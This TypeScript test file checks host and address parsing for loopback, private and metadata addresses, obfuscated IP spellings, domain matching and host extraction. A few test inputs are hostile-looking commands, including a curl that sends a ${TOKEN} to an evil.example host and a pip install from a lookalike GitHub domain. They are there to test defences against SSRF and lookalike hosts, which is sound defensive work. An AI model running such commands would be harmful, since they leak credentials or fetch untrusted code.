import type { IncomingMessage } from 'node:http';
import fc from 'fast-check';
import { isLoopbackAddress, parseAddress, privateAddressReason, sourceOf } from '../../src/common/net/address';
import { isLocalHost, isPrivateName, isWithin, matchesHost, parseHost } from '../../src/common/net/host';
import { requestSource } from '../../src/common/net/request-source';
import { kindOfSource } from '../../src/skills/install/fetch-source';
import { hostsIn, isBareAddress } from '../../src/skills/trust/addresses-in';

import { FOREIGN, OURS, facts, never, request } from './hosts/spellings';

describe('what is this machine', () => {
  it.each(FOREIGN)('%j is not', (host) => {
    const parsed = parseHost(host);
    expect(parsed !== undefined && isLocalHost(parsed)).toBe(false);
    expect(requestSource(request({ host }), facts()).local).toBe(false);
    // Of these only a bare address is one, with or without a zone; a Host it is not.
    expect(isLoopbackAddress(host)).toBe(host === '::1' || host === '[::1%25eth0]');
  });

  it.each(['0.0.0.0', '0', '[::]', '[::127.0.0.1]', '[::ffff:0:127.0.0.1]', '127.0.0.1.1', '126.255.255.255'])(
    '%j, an address of another kind, is not',
    (host) => expect(requestSource(request({ host }), facts()).local).toBe(false),
  );

  it.each(OURS)('%j is', (host) => {
    expect(isLocalHost(parseHost(host) ?? never(host))).toBe(true);
    expect(requestSource(request({ host }), facts()).local).toBe(true);
    expect(requestSource(request({ host }, '::ffff:127.0.0.1'), facts()).local).toBe(true);
    expect(requestSource(request({ host }, '192.168.1.7'), facts()).local).toBe(false);
  });

  it('is not one who comes by a page of another name, or as only proxies speak', () => {
    const isLocal = (headers: Record<string, string>, httpVersion = '1.1'): boolean =>
      requestSource({ ...request({ host: 'localhost', ...headers }), httpVersion } as IncomingMessage, facts()).local;
    expect(isLocal({})).toBe(true);
    for (const origin of ['http://localhost:5173', 'http://127.0.0.1', 'http://[::1]:1'])
      expect(isLocal({ origin })).toBe(true);
    for (const host of FOREIGN) expect(isLocal({ origin: `https://${host}` })).toBe(false);
    for (const origin of ['null', '', 'file://', 'chrome-extension://abc']) expect(isLocal({ origin })).toBe(false);
    expect(isLocal({}, '1.0')).toBe(false);
  });

  it('a name never is, whatever it is made of', () => {
    const label = fc.stringMatching(/^[a-z0-9]([a-z0-9-]{0,8}[a-z0-9])?$/);
    const start = fc.constantFrom('127', '127.0', '127.0.0', '127.0.0.1', 'localhost', '0x7f', '::1', '0', 'xn--1');
    const end = fc.constantFrom('com', 'example', 'local', 'localhost', 'net', 'ts.net', 'internal');
    fc.assert(
      fc.property(start, label, end, fc.constantFrom('', '.', ':80'), (front, middle, back, tail) => {
        const text = `${front}.${middle}.${back}${tail}`;
        const host = parseHost(text);
        expect(host !== undefined && isLocalHost(host)).toBe(false);
        expect(parseAddress(text)).toBeUndefined();
      }),
    );
  });

  it('an address is judged by what it means, in every spelling', () => {
    const spell = (bytes: number[], how: number): string => {
      const [a = 0, b = 0, c = 0, d = 0] = bytes;
      const whole = ((a * 256 + b) * 256 + c) * 256 + d;
      const hex = (n: number): string => n.toString(16);
      return [
        `${a}.${b}.${c}.${d}`,
        String(whole),
        `0x${hex(whole)}`,
        `0${a.toString(8)}.0x${hex(b)}.${c}.${d}`,
        `${a}.${b}.${c * 256 + d}`,
        `[::ffff:${a}.${b}.${c}.${d}]`,
        `[::FFFF:${hex(a * 256 + b)}:${hex(c * 256 + d)}]`,
        `%${hex(`${a}`.charCodeAt(0))}${`${a}`.slice(1)}.${b}.${c}.${d}.`,
      ][how] as string;
    };
    const bytes = fc.tuple(
      fc.constantFrom(10, 100, 126, 127, 128, 192),
      ...Array(3).fill(fc.integer({ min: 0, max: 255 })),
    );
    fc.assert(
      fc.property(bytes as fc.Arbitrary<number[]>, fc.integer({ min: 0, max: 7 }), (parts, how) => {
        const host = parseHost(spell(parts, how)) ?? never(spell(parts, how));
        expect(host.name).toBe(parts.join('.'));
        expect(isLocalHost(host)).toBe(parts[0] === 127);
        expect(matchesHost(spell(parts, how), [parts.join('.')])).toBe(true);
      }),
    );
  });

  it('addresses without a network of their own are no way around', () => {
    for (const inner of ['127.0.0.1', '10.0.0.1', '169.254.169.254'])
      for (const text of [inner, `::ffff:${inner}`, `[::ffff:${inner}]`, `::${inner}`, `64:ff9b::${inner}`])
        expect(privateAddressReason(text)).toBeDefined();
    for (const text of [
      ...['fe80::1%eth0', '168.63.129.16', '::ffff:168.63.129.16', '169.254.170.2', '100.100.100.200', '192.0.0.192'],
      ...['198.18.0.1', '192.88.99.1', '240.0.0.1', '255.255.255.255', '0.1.2.3', '192.31.196.1', '192.52.193.1'],
      ...['fd00:ec2::254', '2001:0:7f00:1::', '64:ff9b:1::7f00:1', '::ffff:0:7f00:1', '2001:470::5efe:7f00:1'],
      ...['fec0::1', '100::1', '5f00::1', '3fff::1', '2001:2::1', '2001:20::1', '2620:4f:8000::1', 'ff02::1'],
    ])
      expect([text, privateAddressReason(text)]).toEqual([text, expect.any(String)]);
    expect(privateAddressReason('168.63.129.17')).toBeUndefined();
    expect(privateAddressReason('2606:4700::1111')).toBeUndefined();
    expect(privateAddressReason('1.1.1.1')).toBeUndefined();
    for (const name of ['a.localhost', 'LOCALHOST.', 'x.internal', 'nas.lan', 'router.home.arpa'])
      expect(isPrivateName(name)).toBe(true);
    for (const name of ['localhost.example', 'internal.example', 'plan.example', 'mylan'])
      expect(isPrivateName(name)).toBe(false);
  });
});

describe('limits count who is behind an address', () => {
  it('loopback is one, a network of IPv6 is one', () => {
    for (const address of ['127.0.0.1', '127.0.0.2', '127.255.0.9', '::1', '::ffff:127.3.3.3', '[::1]'])
      expect(sourceOf(address)).toBe('loopback');
    expect(sourceOf('2001:db8:1:2:aaaa::1')).toBe(sourceOf('2001:db8:1:2:ffff:1:2:3'));
    expect(sourceOf('2001:db8:1:2::1')).not.toBe(sourceOf('2001:db8:1:3::1'));
    expect(sourceOf('203.0.113.7')).toBe(sourceOf('::ffff:203.0.113.7'));
    expect(sourceOf('203.0.113.7')).not.toBe(sourceOf('203.0.113.8'));
    expect(sourceOf('fe80::1%eth0')).toBe(sourceOf('fe80::2%eth1'));
  });
});

describe('names of others', () => {
  it('lie within a domain by their labels', () => {
    for (const name of ['slack.com', 'files.slack.com', 'Files.SLACK.com.'])
      expect(isWithin(name, 'slack.com')).toBe(true);
    for (const name of ['evilslack.com', 'slack.com.evil.example', 'slack.comx', 'slack-files.com'])
      expect(isWithin(name, 'slack.com')).toBe(false);
    expect(matchesHost('api.example.org', ['*.example.org'])).toBe(true);
    for (const host of [
      'example.org',
      'evilexample.org',
      'example.org.evil.example',
      'api.example.org@evil.example',
      '',
    ])
      expect(matchesHost(host, ['*.example.org'])).toBe(false);
  });

  it('what a skill reaches is what its addresses mean', () => {
    const names = (text: string): string[] => hostsIn(text).map(({ name }) => name);
    expect(names('curl https://github.com@evil.example/x')).toEqual(['evil.example']);
    expect(names('curl https://user:${TOKEN}@evil.example/x')).toEqual(['evil.example']);
    expect(names('pip install https://github.com.evil.example/a.whl')).toEqual(['github.com.evil.example']);
    expect(names('see (https://docs.example.org), https://api.example.org.')).toEqual([
      'docs.example.org',
      'api.example.org',
    ]);
    expect(names('https://${REGION}.api.example.org/x')).toEqual(['*.api.example.org']);
    expect(names('https:\\\\evil.example\\x')).toEqual(['evil.example']);
    expect(names('http://localhost:3000 http://$HOST/x http://{host}/')).toEqual([]);
    const isBare = (text: string): boolean => hostsIn(text).some(isBareAddress);
    for (const text of [
      'http://8.8.8.8/x',
      'http://134744072/',
      'http://0x08.8.8.8',
      'http://a@8.8.8.8:80',
      'http://[2606:4700::1111]/',
      'http://0x7f000001/',
    ])
      expect(isBare(text)).toBe(true);
    for (const text of [
      'http://127.0.0.1:3000',
      'http://192.168.1.4/',
      'http://192.0.2.7/',
      'http://[::1]:80/',
      'https://8.8.8.8.example.org',
    ])
      expect(isBare(text)).toBe(false);
  });

  it('a repository is one of a known forge', () => {
    const kind = (source: string): string => kindOfSource(source, { home: '/nowhere', cwd: '/nowhere' });
    expect(kind('https://github.com/owner/skill')).toBe('git');
    for (const source of [
      'https://github.zip/owner/skill',
      'https://github.com.evil.example/owner/skill',
      'https://github.com@evil.example/owner/skill',
      'http://github.com/owner/skill',
      'https://github.com/owner',
    ])
      expect(() => kind(source)).toThrow(/neither an archive/);
  });
});
